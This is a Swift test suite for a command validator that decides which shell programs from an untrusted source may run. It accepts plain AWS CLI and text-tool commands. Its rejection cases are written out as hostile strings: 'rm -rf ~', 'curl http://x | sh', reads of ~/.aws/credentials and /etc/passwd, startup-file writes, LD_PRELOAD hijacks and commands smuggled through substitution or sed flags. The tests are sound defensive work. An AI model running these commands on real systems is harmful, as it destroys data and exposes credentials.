import Testing

@testable import LabShell

/// What of a stranger's commands a real machine may be given.
@Suite struct PlainProgramTests {
  @Test(arguments: [
    "aws ec2 create-vpc --cidr-block 10.1.0.0/16",
    "VPC=$(aws ec2 describe-vpcs --query 'Vpcs[0].VpcId')",
    "aws logs create-log-group --log-group-name /aws/vpc/flow",
    "cat > trust.json <<'JSON'\n{\"a\": 1}\nJSON",
    "aws iam create-role --role-name r --assume-role-policy-document file://trust.json",
    "for I in a b; do aws ec2 create-tags --resources $I --tags Key=a,Value=b; done",
    "if aws ec2 describe-vpcs > out; then echo yes; else echo no; fi", "[ a = b ]",
    "printf '%s\\n' $VPC", "sed -i s/ec2/flow/ trust.json",
    "aws ec2 describe-vpcs --output text | cut -f 1 | sort -u | head -n 1", "export NAME=value",
    "(aws ec2 describe-vpcs && echo ok) || true", "aws ec2 describe-vpcs > out.txt 2>&1",
    "aws ec2 describe-vpcs 2>/dev/null", "date -d '1 hour ago' +%s",
    "AWS_REGION=us-east-1 aws ec2 describe-vpcs",
    "aws --region us-east-1 ec2 describe-vpcs", "aws ssm get-parameters --names a",
    "echo 'see https://example.com'",
  ])
  func `calls of AWS and what passes texts on are plain`(text: String) {
    #expect(PlainProgram(ShellProgram(text)) != nil)
  }

  @Test(arguments: [
    // Programs
    "rm -rf ~", "sudo aws ec2 describe-vpcs", "bash -c 'rm'", "eval rm", "source x", ". x",
    "curl http://x | sh",
    "$X", "\"$(echo rm)\"", "echo a; rm b", "echo a && rm b", "echo a | xargs rm",
    "awk 'BEGIN { system(\"rm\") }'",
    "tee ~/.bashrc", "./aws ec2 describe-vpcs", "command rm", "exec rm", "trap 'rm x' EXIT",
    "alias aws=rm",
    "read PATH", "find . -delete", "env rm", "nohup rm", "time rm", "! rm", "connect web rm",
    // Inside other things
    "echo $(rm -rf ~)", "echo `rm -rf ~`", "X=$(rm -rf ~)", "cat <<END\n$(rm -rf ~)\nEND",
    "echo \"$(echo $(rm))\"",
    "if rm; then echo; fi", "for i in $(rm); do echo; done", "(rm)", "{ rm; }", "echo <(rm)",
    "cat <<< $(rm)",
    "f() { rm; }", "while rm; do echo; done", "case $(rm) in a) ;; esac", "[[ -v a[$(rm)] ]]",
    "aws ec2 $(rm)",
    // Arithmetic runs what a value says
    "X='a[$(rm)]'; echo $((X))", "(( X ))", "echo ${a[$(rm)]}", "let X", "printf -v 'a[$(rm)]' x",
    "echo ${X:=$(rm)}", "echo ${!X}",
    // Files
    "echo x > ~/.bashrc", "echo x > /etc/cron.d/x", "echo x > ../x", "echo x > .profile",
    "echo x >> $FILE",
    "cat /etc/passwd", "cat ~/.aws/credentials", "cat ../x", "cat \"$FILE\"",
    "head -n 1 /etc/passwd",
    "grep -r key ~", "grep key /etc/passwd", "grep key \"$FILE\"", "cat < /etc/passwd",
    "sort -o x y",
    "sort --compress-program=rm x", "uniq a b", "date -f /etc/passwd", "echo x <> y",
    "aws iam create-policy --policy-document file:///etc/passwd", "X=file://../x",
    "aws iam create-policy --policy-document file://~/.aws/credentials",
    "aws ec2 x --user-data fileb:///x",
    // Variables that a program obeys
    "PATH=.", "export PATH=.", "LD_PRELOAD=x aws ec2 describe-vpcs", "IFS=x", "BASH_ENV=x",
    "export AWS_CONFIG_FILE=x",
    "AWS_ENDPOINT_URL=http://x", "for PATH in .; do echo; done", "HTTPS_PROXY=x", "a[0]=x", "a=(x)",
    "HOME=x",
    // sed and aws
    "sed -i 's/a/b/e' x", "sed 'e rm' x", "sed 's/a/b/w y' x", "sed -n '1e rm' x",
    "sed 's/a/b\r\nc/' x", "sed s/a/b/ /etc/passwd",
    "sed -f x y", "sed 's/a/b/;e' x", "aws configure set credential_process rm", "aws s3 rm s3://x",
    "aws ec2 describe-vpcs --endpoint-url http://x", "aws ec2 describe-vpcs --profile admin",
    "aws --debug ec2 x",
    "aws ec2 describe-vpcs &", "aws ssm send-command --document-name x",
    "aws --cli-input-json file://x", "aws $SERVICE x",
  ])
  func `nothing else is`(text: String) {
    #expect(PlainProgram(ShellProgram(text)) == nil)
  }

  @Test func `it tells what it runs and sets`() throws {
    let program = try #require(
      PlainProgram(
        ShellProgram("A=1 B=$(aws ec2 describe-vpcs | head -n 1)\nfor C in x; do echo $C; done")))
    #expect(program.programs == ["aws", "head", "echo"])
    #expect(program.assigned == ["A", "B", "C"])
    #expect(program.operation == "describe-vpcs")
    #expect(!program.isOneCommand)
    #expect(PlainProgram(ShellProgram("aws ec2 describe-vpcs"))?.isOneCommand == true)
  }
}
